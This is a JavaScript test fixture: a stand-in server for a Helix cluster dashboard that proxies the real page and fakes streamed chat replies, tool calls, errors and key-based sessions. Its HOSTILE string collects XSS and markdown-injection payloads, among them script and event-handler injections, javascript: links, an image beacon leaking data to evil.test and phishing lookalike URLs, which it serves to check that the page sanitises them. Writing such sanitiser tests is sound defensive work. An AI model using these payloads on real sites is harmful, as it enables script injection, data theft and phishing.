// Stands between the browser and a Helix server: hands the page on as it is, with its headers, and answers chats itself,
// with what a test wants to see: hostile text, errors, a server that goes away.
import http from 'node:http';
import { merge } from './modelled_clusters.mjs';

const PIECE_MS = 8;

const EVERYTHING = `Machines of a cluster differ. **Helix** gives each its share, by a *maximum flow*:

| machine | layers | tokens/s |
| :-- | --: | --: |
| big | 0 to 3 | 412.5 |
| medium | 4 to 6 | 280.0 |
| small | 7 | 96.2 |

1. Measure every machine and link.
2. Plan who holds which layers:
   - no layer is left out
   - the slowest hop decides
3. Send each request down a pipeline of its own.

\`\`\`python
def max_flow(graph: dict[str, dict[str, float]], source: str, sink: str) -> float:
    """Edmonds and Karp: the shortest path that has room, again and again."""
    flow = 0.0
    while (path := shortest_path(graph, source, sink)) is not None:
        room = min(graph[a][b] for a, b in zip(path, path[1:]))
        for a, b in zip(path, path[1:]):
            graph[a][b] -= room  # what is left of this edge
        flow += room
    return flow
\`\`\`

> What does not fit waits, and nothing overtakes it.

More in [the paper](https://arxiv.org/abs/2406.01566), or \`helix plan --help\`.`;

// Whatever of this runs sets window.pwned or asks the host for something.
export const HOSTILE = `Here is <script>window.pwned = 1</script> and <img src=x onerror="window.pwned = 2">.

![secret](http://evil.test/leak.png?q=secret) <svg onload="window.pwned = 3"><iframe src="http://evil.test/frame"></iframe>

[click](javascript:window.pwned=4) [data](data:text/html,<script>window.pwned=5</script>) [hash](#/chat/other) [ok](https://example.test/ "t\\" onclick=\\"window.pwned=6")

<a href="http://evil.test" onclick="window.pwned=7">raw</a> <style>@import url(http://evil.test/a.css);</style><link rel=stylesheet href=http://evil.test/b.css>

\`\`\`html" onmouseover="window.pwned=8
<script>window.pwned = 9</script>
\`\`\`

<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=10></style></mglyph></table></mtext></math>
<form action=http://evil.test><button formaction=javascript:window.pwned=11>go</button></form>
<details open ontoggle=window.pwned=12><base href=http://evil.test/>

[reference][1] [entity](java&#115;cript:window.pwned=13) [blank]( javascript:window.pwned=14) [case](JaVaScRiPt:window.pwned=15)
[old](vbscript:window.pwned=16) [relative](//evil.test/x) [path](/helix/session) <javascript:window.pwned=17> [blob](blob:http://evil.test/x)
[\](x "](javascript:window.pwned=18") [newline](java
script:window.pwned=19) [![seen](http://evil.test/in-a-link.png)](javascript:window.pwned=20) [file](file:///etc/passwd)

[https://bank.test/login](http://evil.test/phish) and https://bank.test@evil.test/login

[1]: javascript:window.pwned=21 "title"
`;

function pieces(text) {
  return text.match(/[\s\S]{1,6}/g) ?? [];
}

async function stream(response, deltas, { end = true, finish = 'stop', wait = PIECE_MS } = {}) {
  response.writeHead(200, { 'content-type': 'text/event-stream' });
  const send = (object) => response.write(`data: ${JSON.stringify(object)}\n\n`);
  let tokens = 0;
  for (const delta of deltas) {
    if (response.destroyed) return;
    send({ model: 'stand-in', choices: [{ index: 0, delta, finish_reason: null }] });
    tokens += 1;
    await new Promise((resolve) => setTimeout(resolve, wait));
  }
  if (!end) return response.destroy();
  send({ choices: [{ index: 0, delta: {}, finish_reason: finish }] });
  send({ choices: [], usage: { prompt_tokens: 31, completion_tokens: tokens, prompt_tokens_details: { cached_tokens: 16 } } });
  response.end('data: [DONE]\n\n');
}

function refuse(response, status, message, headers = {}) {
  response.writeHead(status, { 'content-type': 'application/json', ...headers });
  response.end(JSON.stringify({ error: { message, type: 'x', code: 'x' } }));
}

// What is said decides what is answered; of what is to be refused, only the first try is.
function answer(body, response, tries) {
  const last = body.messages.at(-1);
  const said = last.content;
  const content = (text) => pieces(text).map((piece) => ({ content: piece }));
  if (last.role === 'tool') return stream(response, content(`The tool says: ${said}`));
  if (said.includes('everything')) {
    const thought = pieces('The user asks how it works. A table, a list and code will do.');
    return stream(response, [...thought.map((piece) => ({ reasoning_content: piece })), ...content(EVERYTHING)], { wait: 2 });
  }
  if (said.includes('hostile')) return stream(response, content(HOSTILE), { wait: 1 });
  if (tries === 1 && said.includes('break off')) return stream(response, content('This will not be wh'), { end: false });
  if (tries === 1 && said.includes('busy')) return refuse(response, 429, 'Too many requests wait.', { 'retry-after': '2' });
  if (tries === 1 && said.includes('starting')) return refuse(response, 503, 'No placement is in force yet.', { 'retry-after': '1' });
  if (said.includes('long')) return stream(response, content('word and more words, '.repeat(200)), { wait: 1 });
  if (said.includes('call')) {
    const part = (more) => ({ tool_calls: [{ index: 0, ...more }] });
    return stream(response, [
      part({ id: 'call_1', function: { name: 'get_weather', arguments: '' } }),
      ...pieces('{"city": "Paris", "days": 3}').map((piece) => part({ function: { arguments: piece } })),
    ], { finish: 'tool_calls' });
  }
  return stream(response, content(`You said: ${said}`));
}

export class StandIn {
  // upstream: the address of the Helix server whose page is shown.
  constructor(upstream) {
    this.upstream = upstream;
    this.requests = []; // bodies of chats
    this.cluster = null; // what /helix/events tells; null: the upstream's own
    this.readers = new Set(); // of it
    this.log = {}; // the last requests, by ID/CHOICE
    this.logReaders = new Set(); // those of the readers who want to know of requests
    this.history = null; // what /helix/history tells; null: the upstream's own
    this.historyAsked = []; // the addresses by which it was asked for
    this.whatIf = null; // how /helix/what-if is answered: progress, then answer or error; null: by the upstream
    this.whatIfAsked = []; // bodies
    this.whatIfGone = 0; // so many were cancelled
    this.joining = null; // what /helix/joining tells
    this.pairing = null; // what /helix/pairing tells
    this.told = []; // what else was to be done: [path, body]
    this.refusal = null; // [status, message] for that
    this.keys = {}; // those that it knows, with their roles; none: nobody is asked for one
    this.sessions = new Map(); // the keys that visitors have logged in with, by the ids in their cookies
    this.keyHeaders = 0; // so many requests brought a key itself
    this.port = 0;
  }

  async start() {
    this.server = http.createServer((request, response) => {
      const parts = [];
      request.on('data', (part) => parts.push(part));
      request.on('end', () => this.#take(request, response, Buffer.concat(parts)));
    });
    await new Promise((resolve) => this.server.listen(this.port, '127.0.0.1', resolve));
    this.port = this.server.address().port;
    this.url = `http://127.0.0.1:${this.port}`;
    return this;
  }

  async stop() {
    this.readers.clear();
    this.logReaders.clear();
    this.server.closeAllConnections();
    await new Promise((resolve) => this.server.close(resolve));
  }

  // From now on this is the cluster.
  showCluster(state) {
    this.cluster = structuredClone(state);
    this.#tell('cluster', this.cluster);
  }
  changeCluster(patch) {
    merge(this.cluster, patch);
    this.#tell('change', patch);
  }
  happens(event, data) {
    this.#tell(event, data);
  }
  showRequests(log) {
    this.log = structuredClone(log);
    this.#tell('requests', this.log, this.logReaders);
  }
  changeRequests(patch) {
    merge(this.log, patch);
    this.#tell('requests_change', patch, this.logReaders);
  }
  #tell(event, data, readers = this.readers) {
    for (const one of readers) one.write(`event: ${event}\ndata: ${JSON.stringify(data)}\n\n`);
  }

  #follow(response, wantsRequests) {
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    response.write(`retry: 1000\n\n: hello\n\nevent: cluster\ndata: ${JSON.stringify(this.cluster)}\n\n`);
    if (wantsRequests) response.write(`event: requests\ndata: ${JSON.stringify(this.log)}\n\n`);
    this.readers.add(response);
    if (wantsRequests) this.logReaders.add(response);
    response.on('close', () => {
      this.readers.delete(response);
      this.logReaders.delete(response);
    });
  }

  #tellHistory(response, query) {
    const since = Number(query.get('since') ?? -Infinity);
    const samples = this.history.samples.filter((one) => one[0] > since);
    if (query.get('format') === 'csv') {
      response.writeHead(200, { 'content-type': 'text/csv' });
      return response.end([this.history.columns, ...samples].map((row) => `${row.join(',')}\n`).join(''));
    }
    response.writeHead(200, { 'content-type': 'application/json' });
    response.end(JSON.stringify({ ...this.history, samples, events: this.history.events.filter((one) => one.time > since) }));
  }

  async #answerWhatIf(response, body) {
    this.whatIfAsked.push(JSON.parse(body));
    const { refuse: refused, progress = [], answer, error, holds } = this.whatIf;
    if (refused) return refuse(response, ...refused);
    response.on('close', () => {
      if (!response.writableEnded) this.whatIfGone += 1;
    });
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    for (const one of progress) response.write(`event: progress\ndata: ${JSON.stringify(one)}\n\n`);
    if (holds) await new Promise((resolve) => (this.whatIf.goOn = resolve));
    if (error) response.write(`event: error\ndata: ${JSON.stringify({ error: { message: error } })}\n\n`);
    else response.write(`event: answer\ndata: ${JSON.stringify(answer)}\n\n`);
    response.end();
  }

  #roleOf(request) {
    if (Object.keys(this.keys).length === 0) return 'admin';
    const id = /(?:^|; )stand_in=(\w+)/.exec(request.headers.cookie ?? '')?.[1];
    return this.keys[this.sessions.get(id)] ?? 'none';
  }

  #session(request, response, body) {
    let role = this.#roleOf(request);
    const headers = { 'content-type': 'application/json' };
    if (request.method === 'POST') {
      const { key } = JSON.parse(body);
      role = this.keys[key];
      if (!role) return refuse(response, 401, 'Incorrect API key provided.');
      const id = `id${this.sessions.size}`;
      this.sessions.set(id, key);
      headers['set-cookie'] = `stand_in=${id}; Path=/; HttpOnly; SameSite=Strict`;
    }
    response.writeHead(200, headers);
    response.end(JSON.stringify({ role, label: role === 'none' ? '' : 'a visitor', session: role !== 'none', api_keys: true,
      admin_keys: Object.values(this.keys).includes('admin') }));
  }

  #do(request, response, body) {
    if (request.headers['x-helix-page'] !== '1') return refuse(response, 403, 'This is not asked by the page.');
    if (this.#roleOf(request) !== 'admin') return refuse(response, 401, 'This needs an admin key.');
    this.told.push([request.url, JSON.parse(body || '{}')]);
    if (this.refusal) return refuse(response, ...this.refusal);
    const { name } = this.told.at(-1)[1];
    response.writeHead(request.url === '/helix/keys' ? 200 : 202, { 'content-type': 'application/json' });
    response.end(JSON.stringify({ name, file: `${name}.key`, text: `helix-key worker ${name}\npublic p\nsecret s\ncoordinator c\n` }));
  }

  #take(request, response, body) {
    const { pathname, searchParams } = new URL(request.url, this.url);
    const known = this.#roleOf(request) !== 'none';
    if (request.headers.authorization) this.keyHeaders += 1;
    if (pathname === '/helix/session' && Object.keys(this.keys).length > 0) return void this.#session(request, response, body);
    if (pathname === '/v1/models' && !known) return void refuse(response, 401, 'A key is needed.');
    if (pathname === '/helix/events' && this.cluster) {
      if (!known) return void refuse(response, 401, 'A key is needed.');
      return void this.#follow(response, searchParams.get('requests') === '1');
    }
    if (pathname === '/helix/history' && this.history) {
      this.historyAsked.push(request.url);
      if (!known) return void refuse(response, 401, 'A key is needed.');
      return void this.#tellHistory(response, searchParams);
    }
    if (pathname === '/helix/what-if' && request.method === 'POST' && this.whatIf) {
      if (!known) return void refuse(response, 401, 'A key is needed.');
      return void this.#answerWhatIf(response, body);
    }
    if (pathname === '/helix/joining' && this.joining) {
      if (!known) return void refuse(response, 401, 'A key is needed.');
      response.writeHead(200, { 'content-type': 'application/json' });
      return void response.end(JSON.stringify(this.joining));
    }
    if (pathname === '/helix/pairing' && this.pairing) {
      if (this.#roleOf(request) !== 'admin') return void refuse(response, 401, 'This needs an admin key.');
      if (request.method === 'POST') this.told.push([request.url, JSON.parse(body || '{}')]);
      response.writeHead(200, { 'content-type': 'application/json' });
      return void response.end(JSON.stringify(this.pairing));
    }
    const does = pathname === '/helix/keys' || pathname === '/helix/plan' || pathname.startsWith('/helix/nodes/');
    if (does && request.method === 'POST' && (this.whatIf || this.joining)) return void this.#do(request, response, body);
    if (request.url === '/v1/chat/completions') {
      this.requests.push(JSON.parse(body));
      const said = this.requests.at(-1).messages.at(-1).content;
      const tries = this.requests.filter((one) => one.messages.at(-1).content === said).length;
      return void answer(this.requests.at(-1), response, tries);
    }
    const headers = { ...request.headers, host: new URL(this.upstream).host };
    const asked = http.request(this.upstream + request.url, { method: request.method, headers }, (answered) => {
      response.writeHead(answered.statusCode, answered.headers);
      answered.pipe(response);
    });
    asked.on('error', () => response.destroy());
    asked.end(body);
  }
}
